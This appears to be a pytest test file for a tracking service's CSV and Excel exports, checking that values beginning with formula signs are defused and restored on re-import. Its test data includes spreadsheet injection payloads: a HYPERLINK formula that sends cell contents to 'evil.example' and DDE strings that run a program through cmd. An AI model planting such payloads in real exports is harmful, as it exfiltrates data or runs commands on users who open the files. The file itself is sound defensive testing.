"""Values that a spreadsheet would calculate, in files that people open with one."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator

import pytest
from httpx import AsyncClient
from hypothesis import given
from hypothesis import strategies as st

from tests.factories.clicks import a_row
from tests.integration.api_client import api_of, hash_at, run_sql, store
from tests.integration.importing import Importer, importer
from tracker.domain.spreadsheet import defused, original
from tracker.settings import Settings
from tracker.store.tokens import create_token

__all__ = ["importer"]
pytestmark = pytest.mark.anyio

USERS = "/backend/open-api/v1/users"
NOON = 1_720_440_000_000
MARK = "\ufeff"

CELLS = [
    ('=HYPERLINK("http://evil.example?"&A1,"click")', True, "a link that takes the sheet's cells along"),
    ("=cmd|' /C calc'!A0", True, "DDE runs a program"),
    ("+1+1", True, "a plus begins a formula"),
    ("-1+1", True, "a minus, too"),
    ("-2+3+cmd|' /C calc'!A0", True, "the same with a program"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", True, "Lotus' sign, which Excel takes"),
    (" =1+1", True, "some spreadsheets take blanks away first"),
    ("\u200b=1+1", True, "and what nobody sees"),
    ("\uff1d1+1", True, "in full width, which Japanese Excel takes"),
    ("\u200e=1+1", True, "behind a mark of direction"),
    ("\u202e\u00ad-1", True, "behind several that nobody sees"),
    ("\ufe661+1", True, "a small sign of Unicode"),
    ("'=1+1", True, "an apostrophe that is a part of the value"),
    ("''-x", True, "two of them"),
    ("+4915112345678", True, "a telephone number would lose its plus"),
    ("-12.50", False, "an amount below zero stays a number"),
    ("-1250", False, "also one of a currency without decimals"),
    ("'quoted'", False, "an apostrophe before what is not a formula"),
    ("a=b", False, "a sign within"),
    ("winter; sale", False, "a separator"),
    ('say "hi", twice', False, "quotation marks"),
    ("", False, "nothing"),
    ("\U0001f600 = fun", False, "an emoji first"),
]  # fmt: skip


@pytest.fixture
async def client(database: Settings) -> AsyncIterator[AsyncClient]:
    rows = [
        a_row(hash=hash_at(NOON, n), aff_sub=cell, affiliate_source=cell, referrer=cell)
        for n, (cell, _, _) in enumerate(CELLS)
    ]
    await store(database, rows)
    async with api_of(database, scopes=("clicks:read", "reports:read", "conversions:read")) as client:
        yield client


@pytest.mark.parametrize(("cell", "is_formula", "reason"), CELLS)
def test_cell_that_would_be_calculated_is_a_text(cell: str, is_formula: bool, reason: str) -> None:
    assert defused(cell) == (f"'{cell}" if is_formula else cell), reason


@given(st.text() | st.from_regex(r"'*\s*[=+\-@\t]?.*"))
def test_defused_text_is_restored(text: str) -> None:
    assert original(defused(text)) == text


@pytest.mark.parametrize(("separator", "query"), [(",", ""), (",", "&separator=,"), (";", "&separator=%3B")])
async def test_export_for_people_and_for_machines(client: AsyncClient, separator: str, query: str) -> None:
    answer = await client.get(f"{USERS}/clicks/export?sort=created_at&format=excel{query}")
    assert answer.headers["content-disposition"] == 'attachment; filename="clicks.csv"'
    text = answer.content.decode()
    assert text.startswith(MARK)
    told = list(csv.DictReader(io.StringIO(text[1:], newline=""), delimiter=separator, strict=True))
    exact = await client.get(f"{USERS}/clicks/export?sort=created_at&format=csv")
    plain = list(csv.DictReader(io.StringIO(exact.text, newline=""), strict=True))
    assert not exact.text.startswith(MARK)
    for place, (cell, is_formula, reason) in enumerate(CELLS):
        for field in ("aff_sub", "affiliate_source", "referrer"):
            assert told[place][field] == (f"'{cell}" if is_formula else cell), reason
            assert plain[place][field] == cell, reason


async def test_report_for_people(client: AsyncClient) -> None:
    query = {"group_by": "affiliate_source", "format": "excel", "separator": ";"}
    text = (await client.get(f"{USERS}/reports", params=query)).content.decode()
    assert text.startswith(f"{MARK}affiliate_source;clicks;")
    told = {row["affiliate_source"] for row in csv.DictReader(io.StringIO(text[1:]), delimiter=";")}
    assert told == {f"'{cell}" if is_formula else cell for cell, is_formula, _ in CELLS}
    exact = (await client.get(f"{USERS}/reports", params=query | {"format": "csv"})).status_code
    assert exact == 422


async def test_affiliates_own_export_for_people(client: AsyncClient, database: Settings) -> None:
    assert database.postgres_dsn
    await run_sql(database, "INSERT INTO affiliate (id, name) VALUES (513, 'John Doe')")
    token = await create_token(database.postgres_dsn, ["clicks:read"], affiliate_id=513)
    answer = await client.get(
        "/backend/open-api/v1/affiliates/clicks/export?format=excel",
        headers={"Authorization": f"Bearer {token}"},
    )
    assert answer.status_code == 200
    rows = csv.DictReader(io.StringIO(answer.content.decode()[1:], newline=""), strict=True)
    assert {row["aff_sub"] for row in rows} == {defused(cell) for cell, _, _ in CELLS}


async def test_separator_goes_with_the_format_for_people(client: AsyncClient) -> None:
    for path in ("clicks/export?", "conversions/export?", "reports?group_by=day&"):
        for query, status in (
            ("format=csv&separator=%3B", 422),
            ("separator=,", 422),
            ("format=excel&separator=x", 422),
            ("format=excel", 200),
        ):
            answer = await client.get(f"{USERS}/{path}{query}")
            assert answer.status_code == status, (path, query)
            assert status == 200 or list(answer.json()["errors"]) == ["separator"]


@pytest.mark.parametrize("separator", [",", ";"])
async def test_import_of_an_export_for_people_gives_the_original_back(
    client: AsyncClient, importer: Importer, separator: str
) -> None:
    await importer.catalogue()
    answer = await client.get(f"{USERS}/clicks/export", params={"format": "excel", "separator": separator})
    exact = await client.get(f"{USERS}/clicks/export?format=csv")
    stored = "SELECT hash, aff_sub, affiliate_source, referrer FROM click ORDER BY hash"
    before = await importer.fetch(stored)
    for content in (answer.content, exact.content):
        for table in ("click", "import_run"):
            await importer.fetch(f"DELETE FROM {table}")
        done = await importer.run("clicks", importer.file("clicks.csv", content), "--json")
        assert (done.code, done.json["stored"]) == (0, len(CELLS)), done.err
        assert await importer.fetch(stored) == before
